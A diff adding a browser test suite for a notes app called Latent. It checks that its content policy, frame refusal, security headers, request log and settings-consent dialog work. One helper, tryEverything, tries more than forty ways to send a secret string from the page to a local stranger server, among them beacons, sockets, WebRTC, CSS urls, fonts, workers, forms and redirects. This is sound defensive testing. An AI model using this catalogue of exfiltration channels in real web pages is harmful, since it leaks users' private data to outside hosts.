@@ -1,0 +1,245 @@
+import { createServer, type IncomingMessage } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { fileURLToPath } from 'node:url';
+import type { Page } from 'playwright';
+import { expect, it, onTestFinished } from 'vitest';
+import { serveSite } from '../scripts/steps/static-server.mjs';
+import { button, runCommand, send, useEndpoint } from './harness/assistant.ts';
+import { startLatent, type Latent } from './harness.ts';
+
+const DIST = process.env.LATENT_DIST ?? fileURLToPath(new URL('../dist', import.meta.url));
+const SECRET = 'the-cellar-door-code';
+
+/** Another program on this machine, on a port of its own, that writes down whoever comes. */
+async function startStranger(page = '<!doctype html>'): Promise<{ readonly origin: string; readonly seen: string[] }> {
+  const seen: string[] = [];
+  const note = ({ method, url }: IncomingMessage) => void seen.push(`${method} ${url}`);
+  const server = createServer((request, response) => {
+    note(request);
+    response.writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' }).end(page);
+  });
+  server.on('upgrade', (request, socket) => {
+    note(request);
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  onTestFinished(async () => {
+    server.closeAllConnections();
+    await new Promise((resolve) => server.close(resolve));
+  });
+  return { origin: `http://localhost:${(server.address() as AddressInfo).port}`, seen };
+}
+
+/** All ways by which a script of the page may try to reach another program. @returns the names of those that were tried */
+async function tryEverything(page: Page, origin: string): Promise<string[]> {
+  return page.evaluate(
+    async ([to, secret]) => {
+      const at = (way: string) => `${to}/${way}?${secret}`;
+      const put = (tag: string, fields: Record<string, string>) => {
+        const element = document.createElement(tag);
+        for (const [name, value] of Object.entries(fields)) element.setAttribute(name, value);
+        document.body.append(element);
+        return element;
+      };
+      const style = (css: string) => {
+        const sheet = new CSSStyleSheet();
+        sheet.replaceSync(css);
+        document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
+      };
+      const scope = window as unknown as Record<string, new (...parameters: unknown[]) => { createDataChannel?(name: string): void; createOffer?(): Promise<unknown>; setLocalDescription?(offer: unknown): Promise<void> }>;
+      const ways: Record<string, () => unknown> = {
+        fetch: () => fetch(at('fetch')),
+        'fetch-no-cors': () => fetch(at('fetch-no-cors'), { method: 'POST', mode: 'no-cors', body: secret, keepalive: true }),
+        beacon: () => navigator.sendBeacon(at('beacon'), secret),
+        xhr: () => {
+          const request = new XMLHttpRequest();
+          request.open('POST', at('xhr'));
+          request.send(secret);
+        },
+        socket: () => new WebSocket(at('socket').replace('http', 'ws')),
+        events: () => new EventSource(at('events')),
+        transport: () => new scope.WebTransport!(at('transport').replace('http:', 'https:')),
+        'fetch-later': () => (window as unknown as { fetchLater?: (url: string, init: object) => void }).fetchLater?.(at('fetch-later'), { activateAfter: 0 }),
+        webrtc: async () => {
+          const peer = new scope.RTCPeerConnection!({ iceServers: [{ urls: `stun:${new URL(to).host}` }] });
+          peer.createDataChannel?.('x');
+          await peer.setLocalDescription?.(await peer.createOffer?.());
+        },
+        image: () => put('img', { src: at('image') }),
+        picture: () => put('img', { srcset: at('picture') }),
+        svg: () => (put('div', {}).innerHTML = `<svg><image href="${at('svg')}"/></svg>`),
+        video: () => put('video', { src: at('video'), poster: at('poster') }),
+        audio: () => new Audio(at('audio')).play(),
+        frame: () => put('iframe', { src: at('frame') }),
+        'frame-text': () => put('iframe', { srcdoc: `<img src="${at('frame-text')}">` }),
+        object: () => put('object', { data: at('object') }),
+        embed: () => put('embed', { src: at('embed') }),
+        script: () => put('script', { src: at('script') }),
+        module: () => import(/* @vite-ignore */ at('module')),
+        worker: () => new Worker(at('worker')),
+        'worker-blob': () => new Worker(URL.createObjectURL(new Blob([`fetch('${at('worker-blob')}')`]))),
+        'service-worker': () => navigator.serviceWorker.register(at('service-worker')),
+        stylesheet: () => put('link', { rel: 'stylesheet', href: at('stylesheet') }),
+        style: () => (put('style', {}).textContent = `body{background:url(${at('style')})}`),
+        'style-attribute': () => put('div', { style: `background:url(${at('style-attribute')})` }),
+        'style-adopted': () => style(`#app{background:url(${at('style-adopted')})}`),
+        'style-import': () => style(`@import url(${at('style-import')});`),
+        font: () => new FontFace('x', `url(${at('font')})`).load(),
+        cursor: () => (document.body.style.cursor = `url(${at('cursor')}), auto`),
+        prefetch: () => put('link', { rel: 'prefetch', href: at('prefetch') }),
+        preload: () => put('link', { rel: 'preload', as: 'fetch', href: at('preload') }),
+        modulepreload: () => put('link', { rel: 'modulepreload', href: at('modulepreload') }),
+        icon: () => put('link', { rel: 'icon', href: at('icon') }),
+        manifest: () => put('link', { rel: 'manifest', href: at('manifest') }),
+        speculation: () => (put('script', { type: 'speculationrules' }).textContent = JSON.stringify({ prefetch: [{ urls: [at('speculation')] }], prerender: [{ urls: [at('prerender')] }] })),
+        form: () => {
+          const form = put('form', { action: at('form'), method: 'post' }) as HTMLFormElement;
+          form.submit();
+        },
+        'form-frame': () => {
+          const form = put('form', { action: at('form-frame'), target: 'somewhere' }) as HTMLFormElement;
+          put('iframe', { name: 'somewhere' });
+          form.submit();
+        },
+        ping: () => put('a', { href: '#here', ping: at('ping') }).click(),
+        download: () => put('a', { href: at('download'), download: 'x' }).click(),
+        link: () => put('a', { href: at('link') }).click(),
+        refresh: () => document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0;url=${at('refresh')}` })),
+        location: () => (location.href = at('location')),
+        replace: () => location.replace(at('replace')),
+      };
+      for (const way of Object.values(ways)) await Promise.race([Promise.resolve().then(way).catch(() => undefined), new Promise((resolve) => setTimeout(resolve, 200))]);
+      return Object.keys(ways);
+    },
+    [origin, SECRET] as const,
+  );
+}
+
+it('lets no script of the page reach another program: not by any request, link, style, worker, form or change of page', async () => {
+  const latent = await startLatent({ vault: { 'Door.md': `# Door\n\n${SECRET}\n` } });
+  await latent.openVault();
+  const stranger = await startStranger();
+  // What the policy refuses is what is tried here.
+  latent.watch.allow(/./su);
+  latent.watch.allowOrigin(stranger.origin);
+  const { page } = latent;
+  const before = page.url();
+
+  const tried = await tryEverything(page, stranger.origin);
+  expect(tried.length).toBeGreaterThan(40);
+  // Whatever is on its way arrives before what is asked of the stranger now.
+  await page.waitForTimeout(1_000);
+  expect(stranger.seen).toEqual([]);
+  expect(page.url().replace(/#.*/u, '')).toBe(before.replace(/#.*/u, ''));
+  expect(await page.evaluate(() => window.latent.status().vault)).toBe('vault');
+});
+
+it('does not start inside a frame, whether or not its host sends headers', async () => {
+  const bare = await serveSite({ root: DIST, headers: {} });
+  onTestFinished(() => bare.close());
+  const latent = await startLatent({ vault: { 'Door.md': SECRET } });
+  await latent.openVault();
+  latent.watch.allow(/frame-ancestors|X-Frame-Options|chrome-error/u);
+  for (const [url, shown] of [[latent.url, /^$/u], [bare.url, /Latent does not run inside another page/u]] as const) {
+    const stranger = await startStranger(`<!doctype html><iframe src="${url}" width="900" height="600"></iframe>`);
+    latent.watch.allowOrigin(stranger.origin);
+    latent.watch.allowOrigin(new URL(url).origin);
+    const outside = await latent.context.newPage();
+    await outside.goto(stranger.origin);
+    await outside.waitForLoadState('load');
+    const frame = outside.frames()[1]!;
+    await outside.waitForTimeout(500);
+    const text = await frame.evaluate(() => document.body.innerText).catch(() => '');
+    expect(text.replace(/.*refused to connect.*|.*blocked.*/isu, '')).toMatch(shown);
+    expect(await frame.evaluate(() => 'latent' in window || document.querySelector('#app') !== null).catch(() => false)).toBe(false);
+    await outside.close();
+  }
+});
+
+it('is served with headers that keep other sites out, from the host and from the service worker', async () => {
+  const latent = await startLatent();
+  const read = () => latent.page.evaluate(async () => Object.fromEntries((await fetch('./')).headers));
+  const expected = {
+    'content-security-policy': expect.stringContaining("frame-ancestors 'none'") as string,
+    'cross-origin-opener-policy': 'same-origin', 'cross-origin-resource-policy': 'same-origin', 'x-content-type-options': 'nosniff', 'x-frame-options': 'DENY', 'referrer-policy': 'no-referrer',
+    'permissions-policy': expect.stringContaining('camera=()') as string,
+  };
+  expect(await read()).toMatchObject(expected);
+  await latent.page.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
+  await latent.stopServer();
+  await latent.reload();
+  expect(await read()).toMatchObject(expected);
+});
+
+const lines = async (page: Page): Promise<string[]> => (await page.getByRole('list', { name: 'Requests' }).getByRole('listitem').allInnerTexts()).map((text) => text.replaceAll(/\s+/gu, ' '));
+
+async function readAccount(latent: Latent): Promise<string> {
+  await runCommand(latent.page, 'What has left this browser');
+  const dialog = latent.page.getByRole('dialog', { name: 'What has left this browser' });
+  await dialog.waitFor();
+  await latent.page.waitForTimeout(300);
+  return dialog.innerText();
+}
+
+it('gives account of every request that left: when, why, where to, how much, and from which notes', async () => {
+  const latent = await startLatent({ vault: { 'Garlic.md': '# Garlic\n\nPlant it in October.\n', 'Moths.md': '# Moths\n' } });
+  await latent.openVault();
+  const { page } = latent;
+  await button(page, 'Nothing has left this browser').waitFor();
+  expect(await readAccount(latent)).toContain('Nothing has left this browser.');
+  await page.keyboard.press('Escape');
+
+  const endpoint = await useEndpoint(latent, [{ toolCalls: [{ name: 'read_note', arguments: { path: 'Garlic.md' } }] }, { text: 'In October.' }]);
+  await send(page, 'When is garlic planted?');
+  await page.getByText('In October.', { exact: true }).waitFor();
+  const { host } = new URL(endpoint.baseUrl);
+  const isDone = () => page.getByRole('button', { name: /requests? (?:has|have) left this browser/u }).waitFor();
+  await isDone();
+  const account = await readAccount(latent);
+  expect(account).toContain(`Question to a model — ${host}`);
+  const [last, first] = (await lines(page)).filter((line) => line.startsWith('Question to a model'));
+  expect(last).toMatch(/sent · .* received · answered With text or names of Garlic\.md/u);
+  expect(first).not.toContain('Garlic.md');
+  // The sizes are those of what the endpoint was really sent.
+  const kept = await page.evaluate(async () => {
+    const opened = await new Promise<IDBDatabase>((resolve, reject) => {
+      const request = indexedDB.open('latent');
+      request.onsuccess = () => resolve(request.result);
+      request.onerror = () => reject(new Error('not opened'));
+    });
+    const rows = await new Promise<{ reason: string; sent: number; received: number }[]>((resolve) => {
+      const request = opened.transaction('egress').objectStore('egress').getAll();
+      request.onsuccess = () => resolve(request.result as { reason: string; sent: number; received: number }[]);
+    });
+    opened.close();
+    return rows.filter(({ reason }) => reason === 'answer').map(({ sent, received }) => ({ sent, received }));
+  });
+  expect(kept.map(({ sent }) => sent).sort()).toEqual(endpoint.requests.map(({ body }) => Buffer.byteLength(JSON.stringify(body))).sort());
+  expect(kept.every(({ received }) => received > 0)).toBe(true);
+  expect(latent.watch.requests.some((url) => url.startsWith(endpoint.baseUrl)), 'requests of the worker are watched').toBe(true);
+
+  await latent.reload();
+  await page.waitForFunction(() => window.latent.status().textReady);
+  await isDone();
+  expect(await readAccount(latent)).toContain(`Question to a model — ${host}`);
+});
+
+it('asks before a script lets more out than the person set up, and takes a model on this machine at once', async () => {
+  const latent = await startLatent({ vault: { 'A.md': 'x' } });
+  await latent.openVault();
+  const { page } = latent;
+  await page.evaluate(() => window.latent.configure({ provider: 'openai-compatible', baseUrl: 'http://127.0.0.1:1/v1', model: 'm', apiKey: 'k' }));
+  expect(await page.getByRole('dialog').count()).toBe(0);
+
+  const answer = page.evaluate(() => window.latent.configure({ baseUrl: 'https://elsewhere.example/v1', trustAgents: true }).then(() => 'changed', (error: Error) => error.message));
+  const dialog = page.getByRole('dialog', { name: 'A script wants to change your settings' });
+  await dialog.getByText('send your questions, and the notes that they are about, to elsewhere.example').waitFor();
+  await dialog.getByText('let agents of the browser read your notes without asking you').waitFor();
+  await button(page, 'Not').click();
+  expect(await answer).toContain('did not allow');
+  await dialog.waitFor({ state: 'detached' });
+
+  const second = page.evaluate(() => window.latent.configure({ baseUrl: 'https://elsewhere.example/v1' }).then(() => 'changed'));
+  await button(page, 'Allow').click();
+  expect(await second).toBe('changed');
+});
